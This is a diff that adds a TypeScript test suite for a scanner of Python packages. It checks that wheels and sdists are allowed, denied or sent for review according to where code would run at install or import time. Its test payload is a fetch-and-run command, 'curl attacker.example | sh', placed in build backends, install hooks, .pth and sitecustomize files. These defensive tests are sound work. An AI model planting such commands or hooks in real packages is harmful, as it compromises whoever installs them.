@@ -1,0 +1,202 @@
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { gzipSync } from 'node:zlib';
+import type { Verdict } from '../../../src/core/decision.ts';
+import { scan } from '../../../src/index.ts';
+import { buildTar } from '../../bypasses/containers/build/tar.ts';
+import { buildZip } from '../../formats/zip/build.ts';
+import { reaches } from './build.ts';
+
+type Tree = Readonly<Record<string, string>>;
+
+const metadata = 'Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n';
+const harm = 'import os\nos.system("curl -s http://attacker.example/x | sh")\n';
+const setup = 'from setuptools import setup\nsetup(name="pkg", version="1.0")\n';
+
+async function decisionOf(name: string, bytes: Uint8Array): Promise<Verdict> {
+  const folder = mkdtempSync(join(tmpdir(), 'loadlock-released-'));
+  try {
+    const path = join(folder, name);
+    writeFileSync(path, bytes);
+    return (await scan([path])).decision;
+  } finally {
+    rmSync(folder, { recursive: true, force: true });
+  }
+}
+
+function wheel(tree: Tree): Promise<Verdict> {
+  const all = {
+    ...tree,
+    'pkg-1.0.dist-info/METADATA': metadata,
+    'pkg-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\n',
+  };
+  const parts = Object.entries(all).map(([name, data]) => ({ name, data, deflate: true }));
+  return decisionOf('pkg-1.0-py3-none-any.whl', buildZip(parts));
+}
+
+function sdist(tree: Tree): Promise<Verdict> {
+  const all = { 'PKG-INFO': metadata, 'pkg/__init__.py': 'x = 1\n', 'setup.py': setup, ...tree };
+  const files = Object.entries(all).map(([name, data]) => ({
+    name: `pkg-1.0/${name}`,
+    data: Buffer.from(data),
+  }));
+  return decisionOf('pkg-1.0.tar.gz', gzipSync(buildTar(files)));
+}
+
+async function check(
+  decide: (tree: Tree) => Promise<Verdict>,
+  cases: readonly (readonly [Tree, Verdict])[],
+): Promise<void> {
+  for (const [tree, expected] of cases)
+    assert.equal(await decide(tree), expected, JSON.stringify(tree, null, 1));
+}
+
+const execs = 'names = {}\nexec(open("pkg/version.py").read(), names)\n';
+
+test('an sdist is read as the folder that it is unpacked to', async () => {
+  await check(sdist, [
+    // What is executed is a file of its own, and judged by what that says.
+    [{ 'setup.py': execs + setup, 'pkg/version.py': '__version__ = "1.0"\n' }, 'allow'],
+    [{ 'setup.py': execs + setup, 'pkg/version.py': `__version__ = "1.0"\n${harm}` }, 'deny'],
+    // Nobody runs these who installs or imports the package, until something leads there.
+    [{ 'tests/test_x.py': 'import os\ndef test_it():\n    os.system("ls")\nos.mkdir("out")\n' }, 'allow'],
+    [{ 'docs/conf.py': 'import os\nos.symlink("a", "../b")\n' }, 'allow'],
+    [{ 'examples/serve.py': 'import socketserver\nsocketserver.TCPServer(("", 8000), None)\n' }, 'allow'],
+    [{ 'tests/__init__.py': '', 'tests/data.py': harm, 'setup.py': `import tests.data\n${setup}` }, 'deny'],
+    [{ 'docs/conf.py': harm, 'setup.py': `exec(open("docs/conf.py").read())\n${setup}` }, 'deny'],
+    [{ 'tests/__init__.py': '', 'tests/a.py': harm, 'pkg/__init__.py': 'import tests.a\n' }, 'deny'],
+    // Hooks of a build, wherever they stand.
+    [
+      {
+        '_build/backend.py': `from setuptools.build_meta import *\n${harm}`,
+        'pyproject.toml':
+          '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
+      },
+      'deny',
+    ],
+    // What a build makes an object of is made by the installer.
+    [
+      {
+        '_build/backend.py':
+          'from setuptools.build_meta import *\nfrom step import Step\n\ndef build_wheel(*given):\n    Step()\n',
+        '_build/step.py': `class Step:\n    def __init__(self):\n        ${harm.replace('\n', '; ')}`,
+        'pyproject.toml':
+          '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
+      },
+      'deny',
+    ],
+    [
+      {
+        'pkg/steps.py': `from setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        ${harm.replace('\n', '; ')}`,
+        'setup.py':
+          'from setuptools import setup\nfrom pkg.steps import Post\nsetup(name="pkg", version="1.0", cmdclass={"install": Post})\n',
+      },
+      'deny',
+    ],
+    [{ 'requirements-dev.txt': '-e .[test]\n' }, 'allow'],
+    [{ 'requirements-dev.txt': '-e ../other\n' }, 'review'],
+  ]);
+});
+
+test('a wheel is read as what an installer lays out', async () => {
+  const test = `import subprocess\nsubprocess.run(["true"])\n\ndef test_it():\n    pass\n`;
+  await check(wheel, [
+    [{ 'pkg/__init__.py': 'x = 1\n', 'pkg/tests/__init__.py': '', 'pkg/tests/test_a.py': test }, 'allow'],
+    [
+      { 'pkg/__init__.py': 'from .tests import a\n', 'pkg/tests/__init__.py': '', 'pkg/tests/a.py': harm },
+      'deny',
+    ],
+    [{ 'pkg/__init__.py': 'x = 1\n', 'pkg/core.py': harm }, 'deny'],
+    [
+      {
+        'pkg/__init__.py': 'x = 1\n',
+        'pkg-1.0.data/purelib/start.pth': 'import pkg.late\n',
+        'pkg/late.py': harm,
+      },
+      'deny',
+    ],
+    [{ 'pkg/__init__.py': 'x = 1\n', 'pkg-1.0.data/purelib/sitecustomize.py': harm }, 'deny'],
+    // Whoever makes an object of a library calls it himself.
+    [
+      {
+        'pkg/__init__.py':
+          'import logging.config\n\nclass Config:\n    def __init__(self, path):\n        logging.config.fileConfig(path)\n',
+      },
+      'allow',
+    ],
+    [
+      { 'pkg/__init__.py': `class Client:\n    def __init__(self):\n        ${harm.replace('\n', '; ')}` },
+      'review',
+    ],
+  ]);
+});
+
+test('a second copy of a module that is imported by name is an import; a loader of one’s own is not', async () => {
+  const copy =
+    'from importlib import util\nspec = util.find_spec("html.parser")\nmodule = util.module_from_spec(spec)\n';
+  await check(wheel, [
+    [{ 'pkg/__init__.py': `${copy}spec.loader.exec_module(module)\n` }, 'allow'],
+    [
+      {
+        'pkg/__init__.py': `from importlib import machinery\n${copy}spec.loader = machinery.SourceFileLoader("x", "/tmp/x.py")\nspec.loader.exec_module(module)\n`,
+      },
+      'deny',
+    ],
+  ]);
+});
+
+test('a name that is given the type of an object is no program; one that is given what a call makes is', async () => {
+  const loop = (text: string): string =>
+    `objects = {}\nfor name in list(objects):\n    exec("${text}" % (name, name))\n`;
+  const decided = await Promise.all(
+    ["%s = type(objects['%s'])", "%s = __import__('%s').run()"].map((text) =>
+      wheel({ 'pkg/__init__.py': loop(text) }),
+    ),
+  );
+  assert.deepEqual(decided, ['review', 'deny']);
+});
+
+test('an archive in which two members take one place is read file by file', async () => {
+  const parts = ['x = 1\n', harm].map((data) => ({ name: 'pkg/tests/a.py', data }));
+  const mark = { name: 'pkg-1.0.dist-info/WHEEL', data: 'Wheel-Version: 1.0\n' };
+  assert.equal(await decisionOf('pkg-1.0-py3-none-any.whl', buildZip([...parts, mark])), 'deny');
+});
+
+test('what lies beside a package is set aside only where something says that there is one', () => {
+  const files = {
+    'pkg/__init__.py': '',
+    'pkg/tests/test_a.py': 'def test_a(): pass\n',
+    'docs/conf.py': '',
+    'tools/gen.py': '',
+  };
+  const all = {
+    'pkg/__init__.py': 'load',
+    'pkg/tests/test_a.py': 'load',
+    'docs/conf.py': 'load',
+    'tools/gen.py': 'load',
+  };
+  assert.deepEqual(reaches(files), all);
+  const aside = { 'pkg/tests/test_a.py': 'none', 'docs/conf.py': 'later', 'tools/gen.py': 'none' };
+  assert.deepEqual(reaches({ ...files, 'PKG-INFO': metadata }), { ...all, ...aside, 'PKG-INFO': 'none' });
+  // Installed, all of it lies where anything can be imported, but for the tests.
+  const installed = { ...files, 'pkg-1.0.dist-info/METADATA': metadata };
+  const { 'pkg-1.0.dist-info/METADATA': _, ...found } = reaches(installed);
+  assert.deepEqual(found, { ...all, 'pkg/tests/test_a.py': 'none' });
+  // A module that only has the name of a test is a library for tests.
+  assert.equal(reaches({ 'PKG-INFO': '', 'pkg/test_support.py': 'x = 1\n' })['pkg/test_support.py'], 'load');
+});
+
+test('a wheel that holds something else than its own list says goes to a person', async () => {
+  const digest = createHash('sha256').update('x = 1\n').digest('base64url');
+  const rows = `pkg-1.0.dist-info/METADATA,,\npkg-1.0.dist-info/WHEEL,,\n"pkg/__init__.py",sha256=${digest},6\n`;
+  const list = { 'pkg-1.0.dist-info/RECORD': `${rows}pkg-1.0.dist-info/RECORD,,\n` };
+  await check(wheel, [
+    [{ ...list, 'pkg/__init__.py': 'x = 1\n' }, 'allow'],
+    [{ ...list, 'pkg/__init__.py': 'x = 2\n' }, 'review'],
+    [{ ...list, 'pkg/__init__.py': 'x = 1\n', 'pkg/data.txt': 'more' }, 'review'],
+  ]);
+});
